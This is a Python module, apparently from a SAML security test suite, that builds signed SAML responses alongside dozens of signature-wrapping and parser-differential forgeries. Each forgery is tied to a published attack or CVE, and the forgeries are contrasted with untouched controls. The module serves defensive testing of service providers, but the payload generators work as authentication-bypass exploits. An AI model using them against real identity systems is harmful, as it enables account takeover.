# SPDX-License-Identifier: LGPL-2.1-or-later
"""Signature wrapping: a signature that holds, over something else than what is read."""

import copy
import hashlib

from provider import (DSIG, EXC_C14N, SAML, SAMLP, SHA256, as_bytes, b64, canonical, digest_of, find, metadata,
                      new_id, parse, put_signature, reference_xml, sign, signature_xml, signed_info_xml)
from table import attack, begin, control

XSW = "Somorovsky et al., USENIX Security 2012"
STRUCTURE = "DW-SAML-STRUCTURE"


def signature_of(element):
    return find(element, "ds:Signature")


def without_signature(element):
    """A copy as it was before it was signed."""
    plain = copy.deepcopy(element)
    plain.remove(signature_of(plain))
    plain.tail = None
    return plain


def add(parent, name, *children, namespace=SAMLP, at=None):
    made = parent.makeelement(f"{{{namespace}}}{name}")
    made.extend(children)
    parent.insert(len(parent) if at is None else at, made)
    return made


begin("wrapping")


@control("assertion signed, untouched")
def assertion_signed(m):
    return m.signed()


@control("Response signed, untouched")
def response_signed(m):
    return m.signed("response")


@control("both signed, untouched")
def both_signed(m):
    return m.signed("both")


@attack("XSW1: forged Response, the signed one inside its Signature", XSW, STRUCTURE)
def xsw1(m):
    m.signed("response")
    evil, signature = m.forged(m.root), signature_of(m.root)
    original = without_signature(m.root)
    put_signature(evil, signature)
    signature.append(original)
    return as_bytes(evil)


@attack("XSW2: forged Response, the signed one beside its Signature", XSW, STRUCTURE)
def xsw2(m):
    m.signed("response")
    evil, signature = m.forged(m.root), signature_of(m.root)
    original = without_signature(m.root)
    put_signature(evil, signature)
    signature.addprevious(original)
    return as_bytes(evil)


@attack("XSW3: forged Assertion before the signed one", XSW, STRUCTURE)
def xsw3(m):
    m.signed()
    m.assertion.addprevious(m.forged())
    return m


@attack("XSW4: signed Assertion inside a forged one", XSW, STRUCTURE)
def xsw4(m):
    m.signed()
    original, evil = m.assertion, m.forged()
    original.addprevious(evil)
    evil.append(original)
    return m


@attack("XSW5: Signature in a forged Assertion, the signed one at the end", XSW, STRUCTURE)
def xsw5(m):
    m.signed()
    evil, original = m.forged(), m.assertion
    put_signature(evil, signature_of(original))
    m.root.replace(original, evil)
    m.root.append(original)
    return m


@attack("XSW6: signed Assertion inside the Signature of a forged one", XSW, STRUCTURE)
def xsw6(m):
    m.signed()
    evil, original = m.forged(), m.assertion
    signature = signature_of(original)
    put_signature(evil, signature)
    m.root.replace(original, evil)
    signature.append(original)
    return m


@attack("XSW7: forged Assertion with the same ID in Extensions", XSW, STRUCTURE)
def xsw7(m):
    m.signed()
    evil = m.forged()
    evil.set("ID", m.assertion.get("ID"))
    add(m.root, "Extensions", evil, at=1)
    return m


@attack("XSW8: signed Assertion in an Object of the Signature of a forged one", XSW, STRUCTURE)
def xsw8(m):
    m.signed()
    evil, original = m.forged(), m.assertion
    signature = signature_of(original)
    put_signature(evil, signature)
    m.root.replace(original, evil)
    add(signature, "Object", original, namespace=DSIG)
    return m


def replaced(m, holder, namespace=SAMLP, same_id=False, keep_signature=True):
    """The signed assertion goes somewhere else; a forged one, with or without its signature, takes its place."""
    m.signed()
    original, evil = m.assertion, m.forged()
    if same_id:
        evil.set("ID", original.get("ID"))
    m.root.replace(original, evil)
    if keep_signature:
        put_signature(evil, signature_of(copy.deepcopy(original)))
    add(m.root, holder, original, namespace=namespace, at=1)
    return m


@attack("signed Assertion in Extensions, forged one in its place", "CVE-2025-27509 (Fleet, crewjam/saml)", STRUCTURE)
def in_extensions(m):
    return replaced(m, "Extensions")


@attack("signed Assertion in an Object, forged one without signature in its place",
        "CVE-2025-47949 (samlify)", STRUCTURE)
def in_object(m):
    return replaced(m, "Object", DSIG, keep_signature=False)


@attack("signed Assertion in StatusDetail, forged one with the same ID in its place",
        "CVE-2024-45409 (ruby-saml)", STRUCTURE)
def in_status_detail(m):
    m.signed()
    original, evil = m.assertion, m.forged()
    evil.set("ID", original.get("ID"))
    m.root.replace(original, evil)
    put_signature(evil, copy.deepcopy(signature_of(original)))
    add(m.find("samlp:Status"), "StatusDetail", original)
    return m


@attack("signed Assertion as Advice of a forged one", "CVE-2021-28091 (lasso)", STRUCTURE)
def in_advice(m):
    m.signed()
    original, evil = m.assertion, m.forged()
    m.root.replace(original, evil)
    add(evil, "Advice", original, namespace=SAML)
    return m


@attack("forged Assertion behind the signed one", "CVE-2021-28091 (lasso)", STRUCTURE)
def behind(m):
    m.signed()
    m.root.append(m.forged())
    return m


@attack("signed Assertion twice", "CVE-2022-41912 (crewjam/saml)", STRUCTURE)
def twice(m):
    m.signed()
    m.root.append(copy.deepcopy(m.assertion))
    return m


@attack("two Assertions, each with a signature that holds", "SAML profiles 4.1.4.2", STRUCTURE)
def two_signed(m):
    evil = m.forged(account=m.account)
    m.signed()
    m.root.append(evil)
    sign(evil, m.key)
    return m


@attack("signed Response inside a Response that is not", "CVE-2025-27509 (Fleet, crewjam/saml)", STRUCTURE)
def nested_response(m):
    m.signed("response")
    outer = m.forged(m.root)
    outer.append(m.root)
    return as_bytes(outer)


@attack("forged Assertion, Response carries the Signature of the real one", "CVE-2020-5390 (pysaml2)", STRUCTURE)
def signature_moved_to_the_response(m):
    m.signed()
    signature, evil, original = signature_of(m.assertion), m.forged(), m.assertion
    put_signature(m.root, signature)
    m.root.replace(original, evil)
    return m


@attack("Signature over the Subject alone", "SAML core 5.4.2", STRUCTURE)
def subject_alone(m):
    subject = m.find(".//saml:Subject")
    subject.set("ID", new_id())
    sign(subject, m.key)
    m.assertion.insert(1, signature_of(subject))
    return m


def with_uri(m, uri):
    return m.signed(uri=uri)


@attack("Reference without URI", "xmldsig-core 4.4.3", STRUCTURE)
def no_uri(m):
    return with_uri(m, None)


@attack("Reference to the whole document, URI=\"\"", "SAML core 5.4.2", STRUCTURE)
def empty_uri(m):
    return with_uri(m, "")


@attack("Reference by XPointer", "CVE-2007-3715 class", STRUCTURE)
def xpointer(m):
    return with_uri(m, f"#xpointer(id('{m.assertion.get('ID')}'))")


@attack("Reference to the root by XPointer", "xmldsig-core 4.4.3.2", STRUCTURE)
def xpointer_root(m):
    return with_uri(m, "#xpointer(/)")


@attack("Assertion's Reference to the ID of the Response", "xmldsig wrapping", STRUCTURE)
def reference_to_response(m):
    return with_uri(m, "#" + m.root.get("ID"))


@attack("same ID on Response and Assertion", "CVE-2024-45409 (ruby-saml)", STRUCTURE)
def same_id(m):
    m.root.set("ID", m.assertion.get("ID"))
    return m.signed()


@attack("ID of the Assertion repeated as Id of another element", "XSW with ID types", STRUCTURE)
def same_id_other_name(m):
    m.signed()
    m.find("samlp:Status").set("Id", m.assertion.get("ID"))
    return m


@attack("ID of the Assertion repeated as xml:id", "XSW with ID types", STRUCTURE)
def same_xml_id(m):
    m.signed()
    m.find("samlp:Status").set("{http://www.w3.org/XML/1998/namespace}id", m.assertion.get("ID"))
    return m


@attack("forged Assertion, Signature taken from the provider's signed metadata",
        "PortSwigger, The Fragile Lock (2025)", STRUCTURE)
def signature_of_metadata(m):
    document = parse(metadata(m.provider, attributes=f'ID="{new_id()}"'))
    sign(document, m.key)
    put_signature(m.assertion, signature_of(document))
    add(m.root, "Extensions", document, at=1)
    return m


@attack("forged Assertion with the ID of the provider's signed metadata",
        "PortSwigger, The Fragile Lock (2025)", "DW-SAML-SIGNATURE")
def id_of_metadata(m):
    document = parse(metadata(m.provider, attributes=f'ID="{new_id()}"'))
    sign(document, m.key)
    m.assertion.set("ID", document.get("ID"))
    put_signature(m.assertion, signature_of(document))
    return m


@attack("Assertion of another sign-in in a new Response", "CVE-2026-49284 class, rule 18", "DW-SAML-INRESPONSETO",
        plays=True)
def assertion_of_another_sign_in(play):
    stolen, m = play.message().signed(), play.message()
    m.root.replace(m.assertion, stolen.assertion)
    return play.answer(m)


@attack("Issuer, Status and InResponseTo of the Response forged around a signed Assertion",
        "CVE-2024-8698 (Keycloak)", "DW-SAML-ISSUER")
def wrapper_forged(m):
    m.signed()
    m.find("saml:Issuer").text = "https://evil.example.test/metadata"
    return m


@attack("signed Response whose Assertion was exchanged", "baseline", "DW-SAML-SIGNATURE")
def assertion_exchanged(m):
    m.signed("response")
    m.root.replace(m.assertion, m.forged())
    return m


@attack("WantSigned=both: Assertion exchanged for an unsigned one", "CVE-2024-8698 (Keycloak)", "DW-SAML-UNSIGNED",
        idp="both")
def both_wanted(m):
    return m.signed("response")


@control("WantSigned=both: both signed", idp="both")
def both_wanted_control(m):
    return m.signed("both")


@attack("Signature inside the Subject of the Assertion", "xmldsig wrapping", STRUCTURE)
def signature_deeper(m):
    m.signed()
    m.find(".//saml:Subject").append(signature_of(m.assertion))
    return m


@attack("two Signatures in the Assertion, one of them good", "CVE-2024-45409 (ruby-saml)", STRUCTURE)
def two_signatures(m):
    m.signed()
    signature = signature_of(m.assertion)
    signature.addprevious(copy.deepcopy(signature))
    return m


@attack("a good Signature inside KeyInfo of a bad one", "xmldsig wrapping", STRUCTURE)
def signature_in_key_info(m):
    m.signed()
    good = copy.deepcopy(signature_of(m.assertion))
    find(m.assertion, ".//ds:KeyInfo").append(good)
    find(m.assertion, "ds:Signature/ds:SignatureValue").text = b64(bytes(256))
    return m


@attack("EncryptedAssertion beside the signed Assertion", "SAML profiles 4.1.4.2", STRUCTURE)
def encrypted_beside(m):
    m.signed()
    add(m.root, "EncryptedAssertion", namespace=SAML)
    return m


begin("parser differentials")
FRAGILE = "PortSwigger, The Fragile Lock (2025)"


@control("redundant namespace declarations, signed")
def redundant_namespaces(m):
    m.root = parse(as_bytes(m.root).replace(b"<saml:Subject>", f'<saml:Subject xmlns:other="{SAML}">'.encode()))
    return m.signed()


def void(m, replace_digest):
    """A relative namespace URI makes canonicalisation fail; what fails must not count as nothing."""
    relative = b'<saml:Assertion xmlns:void="1" '
    nothing = b64(hashlib.sha256(b"").digest())
    digest = nothing if replace_digest else digest_of(m.assertion)
    info = signed_info_xml(reference_xml("#" + m.assertion.get("ID"), digest))
    value = b64(m.key.sign(canonical(parse(info)) if replace_digest else b""))
    text = signature_xml(info, value)
    if not replace_digest:
        text = text.replace("<ds:SignedInfo", '<ds:SignedInfo xmlns:void="1"', 1)
    xml = as_bytes(m.root)
    if replace_digest:
        xml = xml.replace(b"<saml:Assertion ", relative)
    return xml.replace(b"<saml:Subject>", text.encode() + b"<saml:Subject>", 1)


@attack("void canonicalization of the Assertion, digest of nothing signed by the provider",
        "CVE-2025-66475, CVE-2025-66568; " + FRAGILE, "DW-SAML-SIGNATURE")
def void_digest(m):
    return void(m, True)


@attack("void canonicalization of SignedInfo, signature of nothing by the provider",
        "CVE-2025-66568; " + FRAGILE, "DW-SAML-SIGNATURE")
def void_signed_info(m):
    return void(m, False)


@attack("digest of nothing, nothing else unusual", "CVE-2025-66475", "DW-SAML-SIGNATURE", reason="nothing")
def empty_digest(m):
    nothing = b64(hashlib.sha256(b"").digest())
    info = signed_info_xml(reference_xml("#" + m.assertion.get("ID"), nothing))
    put_signature(m.assertion, parse(signature_xml(info, b64(m.key.sign(canonical(parse(info)))))))
    return m


def polluted(m, old, new):
    """The signature holds; one attribute of it is doubled in a namespace."""
    m.signed()
    xml = as_bytes(m.root)
    if old not in xml:
        raise LookupError(old)
    return xml.replace(old, new, 1)


@attack("attribute pollution: samlp:ID beside ID", FRAGILE, "DW-SAML-SIGNATURE")
def polluted_id(m):
    return polluted(m, b"<saml:Assertion ", b'<saml:Assertion samlp:ID="_evil" ')


@attack("attribute pollution: URI of the Reference doubled", "CVE-2025-66567; " + FRAGILE, STRUCTURE)
def polluted_uri(m):
    return polluted(m, b"<ds:Reference ", b'<ds:Reference ds:URI="#_evil" ')


@attack("attribute pollution: Algorithm doubled", FRAGILE, STRUCTURE)
def polluted_algorithm(m):
    return polluted(m, b"<ds:DigestMethod ", b'<ds:DigestMethod ds:Algorithm="http://www.w3.org/2000/09/xmldsig#sha1" ')


@attack("attribute pollution: samlp:Destination and samlp:InResponseTo beside the real ones", FRAGILE,
        "DW-SAML-INRESPONSETO")
def polluted_response(m):
    m.signed()
    value = m.root.attrib.pop("InResponseTo")
    m.root.set(f"{{{SAMLP}}}InResponseTo", value)
    return m


@attack("namespace confusion: Signature in another namespace, real one hidden in it", "CVE-2025-66567; " + FRAGILE,
        STRUCTURE)
def confused_signature(m):
    m.signed()
    evil = m.assertion.makeelement("{http://www.w3.org/2000/09/xmldsig}Signature")
    signature = signature_of(m.assertion)
    signature.addprevious(evil)
    evil.append(signature)
    return m


@attack("namespace confusion: Assertion in the namespace of SAML 1.1", FRAGILE, STRUCTURE)
def confused_assertion(m):
    m.signed()
    evil = as_bytes(m.forged()).replace(SAML.encode(), b"urn:oasis:names:tc:SAML:1.0:assertion")
    m.root.replace(m.assertion, parse(evil))
    return m


@attack("namespace confusion: forged Assertion without namespace before the signed one", FRAGILE,
        "DW-SAML-SIGNATURE", idp="both")
def assertion_without_namespace(m):
    m.signed("both")
    evil = parse(as_bytes(m.forged()).replace(f'xmlns:saml="{SAML}"'.encode(), b"").replace(b"saml:", b""))
    m.assertion.addprevious(evil)
    return m


@attack("prefix ds bound to another namespace inside SignedInfo", "CVE-2025-25291 (ruby-saml)", STRUCTURE)
def rebound_prefix(m):
    return polluted(m, b"<ds:Reference ", b'<ds:Reference xmlns:ds="urn:evil" ')


@attack("namespace that is not declared", "CVE-2020-26276 class", "DW-SAML-XML")
def undeclared(m):
    return polluted(m, b"<saml:Subject>", b'<saml:Subject evil:a="1">')


@attack("attribute whose prefix is empty", "CVE-2020-29509 (Go encoding/xml, Fleet CVE-2020-26276)", "DW-SAML-XML")
def empty_prefix(m):
    return polluted(m, b"<saml:Subject>", b'<saml:Subject :a="1">')


@attack("element with two colons", "CVE-2020-29511 (Go encoding/xml, Fleet CVE-2020-26276)", "DW-SAML-XML")
def two_colons(m):
    return polluted(m, b"<saml:Subject>", b"<saml:Subject><a:b:c/>")


@attack("attribute twice", "XML 1.0, 3.1", "DW-SAML-XML")
def attribute_twice(m):
    return polluted(m, b"<saml:Assertion ", b'<saml:Assertion ID="_evil" ')


@attack("comment splits a directive", "CVE-2020-29510 (Go encoding/xml, Fleet CVE-2020-26276)", "DW-SAML-XML")
def split_directive(m):
    m.signed()
    return b"<!<!-- -->DOCTYPE x>" + as_bytes(m.root)


@attack("DigestValue with a comment, forged digest behind it", "CVE-2025-29775 (xml-crypto)", STRUCTURE)
def commented_digest(m):
    m.signed()
    evil = m.forged()
    evil.set("ID", m.assertion.get("ID"))
    signature = signature_of(m.assertion)
    value = find(signature, ".//ds:DigestValue")
    old, value.text = value.text, None
    comment = parse("<a><!--" + old + "--></a>")[0]
    value.append(comment)
    comment.tail = digest_of(evil)
    m.root.replace(m.assertion, evil)
    put_signature(evil, signature)
    return m


@attack("two DigestValues", "CVE-2024-45409 (ruby-saml)", STRUCTURE)
def two_digests(m):
    m.signed()
    value = find(m.assertion, ".//ds:DigestValue")
    value.addprevious(copy.deepcopy(value))
    return m


@attack("DigestValue with an element inside", "CVE-2025-29774 (xml-crypto)", STRUCTURE)
def digest_with_element(m):
    m.signed()
    find(m.assertion, ".//ds:DigestValue").append(parse(f'<ds:x xmlns:ds="{DSIG}"/>'))
    return m


@attack("two SignedInfo, the first forged", "CVE-2025-29774 (xml-crypto)", STRUCTURE)
def two_signed_infos(m):
    m.signed()
    info = find(m.assertion, ".//ds:SignedInfo")
    evil = copy.deepcopy(info)
    info.addprevious(evil)
    return m


@attack("two SignedInfo, the second forged", "CVE-2025-29774 (xml-crypto)", STRUCTURE)
def two_signed_infos_after(m):
    m.signed()
    info = find(m.assertion, ".//ds:SignedInfo")
    info.addnext(copy.deepcopy(info))
    return m


@attack("SignatureValue split by a comment", "CVE-2025-29775 (xml-crypto)", STRUCTURE)
def commented_signature(m):
    m.signed()
    return as_bytes(m.root).replace(b"<ds:SignatureValue>", b"<ds:SignatureValue><!-- -->", 1)


@attack("two References, the second to the forged part", "xmldsig wrapping", STRUCTURE)
def two_references(m):
    evil = m.forged()
    both = "".join(reference_xml("#" + each.get("ID"), digest_of(each)) for each in (m.assertion, evil))
    info = signed_info_xml(both)
    put_signature(m.assertion, parse(signature_xml(info, b64(m.key.sign(canonical(parse(info)))))))
    return m


@attack("no Reference at all", "CVE-2021-21238 (pysaml2)", STRUCTURE)
def no_reference(m):
    info = signed_info_xml("")
    put_signature(m.assertion, parse(signature_xml(info, b64(m.key.sign(canonical(parse(info)))))))
    return m


@attack("Manifest in an Object carries the real Reference", "xmldsig-core 5.1", STRUCTURE)
def manifest(m):
    inner = f'<ds:Object Id="o"><ds:Manifest>{reference_xml("#" + m.assertion.get("ID"), digest_of(m.assertion))}' \
            "</ds:Manifest></ds:Object>"
    whole = parse(f'<ds:Object xmlns:ds="{DSIG}"{inner[len("<ds:Object"):]}')
    info = signed_info_xml(reference_xml("#o", digest_of(whole), SHA256,
                                         f'<ds:Transforms><ds:Transform Algorithm="{EXC_C14N}"/></ds:Transforms>'))
    put_signature(m.assertion, parse(signature_xml(info, b64(m.key.sign(canonical(parse(info)))), after=inner)))
    return m


@attack("unexpected element in SignedInfo", "xmldsig-core 4.4", STRUCTURE)
def extra_in_signed_info(m):
    m.signed()
    find(m.assertion, ".//ds:SignedInfo").append(parse(f'<ds:Object xmlns:ds="{DSIG}"/>'))
    return m


@attack("unsigned Response claims another Destination inside its own Extensions", "rule 9", STRUCTURE)
def evil_in_extensions(m):
    m.signed()
    add(m.root, "Extensions", parse(f'<samlp:Response xmlns:samlp="{SAMLP}" ID="{new_id()}"/>'), at=1)
    return m
